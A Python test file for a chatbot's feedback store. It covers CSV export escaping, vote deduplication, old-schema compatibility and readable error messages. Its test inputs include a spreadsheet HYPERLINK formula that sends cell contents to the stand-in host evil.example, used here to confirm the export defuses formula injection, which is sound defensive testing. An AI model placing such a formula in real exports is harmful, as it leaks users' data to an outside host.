"""Issue 10, items 5 and 11: the feedback export cannot carry a live formula, one answer's votes count
once, and a bad export path or a damaged database is a message, not a traceback."""

from __future__ import annotations

import csv
import io

import pytest

from bot.cli import main
from bot.records.export import stored_text
from bot.records.feedback import FeedbackStore
from bot.web.chat import Chat
from support.fakes import ScriptedAssistant, answer

pytestmark = pytest.mark.reliability

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_cells_never_start_a_formula(tmp_path, formula):
    store = FeedbackStore(tmp_path / "feedback.sqlite3")
    store.record(question=formula, answer=formula, citations=[], language="en", status="answered", vote=1)
    out = io.StringIO()
    store.export(out, "csv")
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    for column in ("question", "answer"):
        assert row[column] == "'" + stored_text(formula)  # shown as text (control characters dropped)
        assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_jsonl_export_keeps_the_text_as_it_was(tmp_path):
    store = FeedbackStore(tmp_path / "feedback.sqlite3")
    store.record(question=FORMULAS[0], answer="a", citations=[], language="en", status="answered", vote=1)
    out = io.StringIO()
    store.export(out, "jsonl")
    assert FORMULAS[0].replace('"', '\\"') in out.getvalue()


def test_repeat_votes_on_one_answer_count_once(tmp_path):
    store = FeedbackStore(tmp_path / "feedback.sqlite3")
    question = "Who leads the working group?"
    chat = Chat(ScriptedAssistant({question: answer(question)}), store)
    turns = list(chat.respond(question, []))[-1].turns
    turns = list(chat.respond(question, turns))[-1].turns  # the same question asked again: another answer
    for liked in (True, True, False, True):
        chat.vote(turns, [1], liked)
    chat.vote(turns, [3], False)
    assert [row["vote"] for row in store.rows()] == [1, -1]


def test_votes_from_an_older_database_still_count(tmp_path):
    import sqlite3

    path = tmp_path / "feedback.sqlite3"
    with sqlite3.connect(path) as old:  # the schema before answer ids
        old.execute("CREATE TABLE feedback (id INTEGER PRIMARY KEY AUTOINCREMENT, time TEXT NOT NULL, "
                    "question TEXT NOT NULL, answer TEXT NOT NULL, citations TEXT NOT NULL, language TEXT NOT NULL, "
                    "status TEXT NOT NULL, vote INTEGER NOT NULL CHECK (vote IN (-1, 1)))")
        old.execute("INSERT INTO feedback (time, question, answer, citations, language, status, vote) "
                    "VALUES (?, 'q', 'a', '[]', 'en', 'answered', 1)", (_days_ago(1),))
    old.close()
    store = FeedbackStore(path)
    store.record(question="q2", answer="a2", citations=[], language="en", status="answered", vote=-1, answer_id="x")
    assert [row["vote"] for row in store.rows()] == [1, -1]


@pytest.mark.parametrize("records", ["feedback", "questions"])
def test_export_to_a_bad_path_is_a_message(records, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("AMF_BOT_DATA_DIR", str(tmp_path))
    assert main([records, "export", "-o", str(tmp_path / "missing" / "folder" / "out.csv")]) == 1
    err = capsys.readouterr().err
    assert "cannot write the export" in err and "Traceback" not in err


def test_export_from_a_damaged_database_is_a_message(tmp_path, monkeypatch, capsys):
    (tmp_path / "feedback.sqlite3").write_bytes(b"this is not a database" * 100)
    monkeypatch.setenv("AMF_BOT_DATA_DIR", str(tmp_path))
    out = tmp_path / "out.csv"
    assert main(["feedback", "export", "-o", str(out)]) == 1
    err = capsys.readouterr().err
    assert "feedback database" in err and "move it aside" in err and not out.exists()


def _days_ago(days: int) -> str:
    from datetime import datetime, timedelta, timezone

    return (datetime.now(timezone.utc) - timedelta(days=days)).isoformat(timespec="seconds")
